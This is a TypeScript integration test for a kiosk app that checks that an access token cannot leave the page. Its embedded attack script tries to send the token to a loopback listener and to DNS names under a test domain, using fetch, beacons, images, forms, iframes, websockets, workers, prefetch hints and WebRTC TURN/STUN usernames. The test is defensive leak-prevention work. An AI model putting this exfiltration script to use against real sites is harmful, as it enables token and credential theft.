// The token cannot leave: a script in the kiosk page's main frame takes a token from the bridge and tries
// every channel it has to a listener on loopback and to host names a DNS logger sees — WebRTC (TURN with the
// token as username over UDP and TCP, STUN/TURN host names, also through same-origin iframes), fetch, beacon,
// image, form, iframe, websocket, worker, prefetch/preconnect hints and navigation. Nothing that arrives may
// carry the token in any encoding, and no name under the test domain may be looked up at all.
import { writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { expect, it } from 'vitest';
import { closeAfterEach } from '../support/close-after-each';
import { makeCanary } from '../support/canary';
import { startExfilListener } from '../support/exfil-listener';
import { describeWithKeyring } from '../integration/secrets/keyring-env';
import { embedsShowing, startHarness } from './qiosk-harness';

const DNS = '127.83.77.1'; // a loopback address nothing else uses (not resolved's 127.0.0.53)
const DOMAIN = 'exfil.test';
const root = process.getuid?.() === 0; // the DNS logger binds port 53 and Chromium runs in its own mount namespace

/** Runs in the page's main world, as a compromised script would. Returns the token it took and what threw. */
const ATTACK = `async ({ http, turn, domain }) => {
  const token = await window.qioskGetAccessToken();
  const hex = [...new TextEncoder().encode(token)].slice(0, 24).map((b) => b.toString(16).padStart(2, '0')).join('');
  const q = 't=' + encodeURIComponent(token);
  const results = {};
  const attempt = async (name, fn) => { try { await fn(); results[name] = 'ran'; } catch (e) { results[name] = 'threw: ' + (e && e.message); } };
  const rtc = (PC) => {
    if (typeof PC !== 'function') throw new Error('no RTCPeerConnection');
    const pc = new PC({ iceServers: [
      { urls: ['turn:127.0.0.1:' + turn + '?transport=udp', 'turn:127.0.0.1:' + turn + '?transport=tcp'], username: token, credential: 'x' },
      { urls: 'stun:' + hex + '.stun.' + domain + ':3478' },
      { urls: 'turn:' + hex + '.turn.' + domain + ':3478?transport=tcp', username: token, credential: 'x' },
    ] });
    pc.createDataChannel('x');
    return pc.createOffer().then((o) => pc.setLocalDescription(o));
  };
  const frame = () => { const f = document.createElement('iframe'); document.body.append(f); return f; };
  await attempt('fetch', () => fetch('http://' + http + '/fetch?' + q).catch(() => {}));
  await attempt('fetch by name', () => fetch('http://' + hex + '.fetch.' + domain + '/').catch(() => {}));
  await attempt('beacon', () => navigator.sendBeacon('http://' + http + '/beacon?' + q, token));
  await attempt('image', () => { const i = new Image(); i.src = 'http://' + http + '/img?' + q; document.body.append(i); });
  await attempt('image by name', () => { const i = new Image(); i.src = 'http://' + hex + '.img.' + domain + '/x.png'; document.body.append(i); });
  await attempt('form', () => { const f = document.createElement('form'); f.method = 'POST'; f.action = 'http://' + http + '/form'; const i = document.createElement('input'); i.name = 't'; i.value = token; f.append(i); document.body.append(f); f.submit(); });
  await attempt('iframe', () => { frame().src = 'http://' + http + '/frame?' + q; });
  await attempt('iframe by name', () => { frame().src = 'http://' + hex + '.frame.' + domain + '/'; });
  await attempt('websocket', () => new WebSocket('ws://' + http + '/ws?' + q));
  await attempt('worker', () => new Worker('http://' + http + '/worker.js?' + q));
  await attempt('hints', () => { for (const rel of ['dns-prefetch', 'preconnect', 'prefetch']) { const l = document.createElement('link'); l.rel = rel; l.href = 'http://' + hex + '.' + rel + '.' + domain + '/'; document.head.append(l); } });
  await attempt('webrtc', () => rtc(window.RTCPeerConnection));
  await attempt('webrtc (webkit)', () => rtc(window.webkitRTCPeerConnection));
  await attempt('webrtc via iframe window', () => { frame(); return rtc(window[window.length - 1].RTCPeerConnection); });
  await attempt('webrtc via contentWindow', () => rtc(frame().contentWindow.RTCPeerConnection));
  await attempt('webrtc via innerHTML', () => { const d = document.createElement('div'); d.innerHTML = '<iframe></iframe>'; document.body.append(d); return rtc(window[window.length - 1].RTCPeerConnection); });
  await attempt('webrtc in onload', () => new Promise((resolve, reject) => { const f = document.createElement('iframe'); f.onload = () => { try { rtc(window[window.length - 1].RTCPeerConnection).then(resolve, reject); } catch (e) { reject(e); } }; document.body.append(f); }));
  await new Promise((r) => setTimeout(r, 3000)); // ICE gathering, relays, hints
  return { token, hex, results };
}`;

describeWithKeyring('the token cannot leave the kiosk page', () => {
  const closing = closeAfterEach();

  if (!root) console.warn('[exfil] SKIPPED: the DNS logger binds port 53 and Chromium needs its own mount namespace, so this needs root (CI runs as root).');
  it.skipIf(!root)('a main-frame script reaches no listener and no DNS name with the token, by any channel', async () => {
    const l = closing(await startExfilListener(DNS));
    const resolv = path.join(os.tmpdir(), `qiosk-exfil-resolv-${process.pid}.conf`);
    writeFileSync(resolv, `nameserver ${DNS}\noptions attempts:1 timeout:1\n`);
    const h = closing(await startHarness({ secret: makeCanary(), resolvConf: resolv }));
    await embedsShowing(h.page);
    const { token, hex, results } = (await h.page.evaluate(`(${ATTACK})(${JSON.stringify({ http: `127.0.0.1:${l.httpPort}`, turn: l.turnPort, domain: DOMAIN })})`)) as {
      token: string; hex: string; results: Record<string, string>;
    };
    expect(token.length).toBeGreaterThan(20); // the script really held a token
    // Last, navigation away (the page may be gone after it): by URL and by name.
    await h.page.evaluate(`location.href = 'http://127.0.0.1:${l.httpPort}/nav?t=' + encodeURIComponent(${JSON.stringify(token)})`).catch(() => {});
    await h.page.evaluate(`location.href = 'http://${hex}.nav.${DOMAIN}/'`).catch(() => {});
    await new Promise((r) => setTimeout(r, 1500)); // what never arrives has no event to wait for: a window

    const forms = [token, encodeURIComponent(token), hex, Buffer.from(token).toString('base64'), Buffer.from(token).toString('base64url')];
    const carrying = l.received.filter((r) => forms.some((f) => r.includes(f)));
    expect(carrying.map((r) => r.slice(0, 60)), JSON.stringify(results)).toEqual([]);
    expect(l.received.filter((r) => r.startsWith('DNS ') && r.includes(DOMAIN))).toEqual([]);
    for (const name of Object.keys(results).filter((n) => n.startsWith('webrtc'))) expect(results[name], name).toMatch(/threw: .*RTCPeerConnection/);
    // Electron keeps the page on a refused navigation; the emulated refusal leaves Chromium's error page. Either
    // way the window never reached the listener or the test domain.
    expect(h.page.url()).not.toMatch(new RegExp(`127\\.0\\.0\\.1:${l.httpPort}|${DOMAIN}`));
  });
});
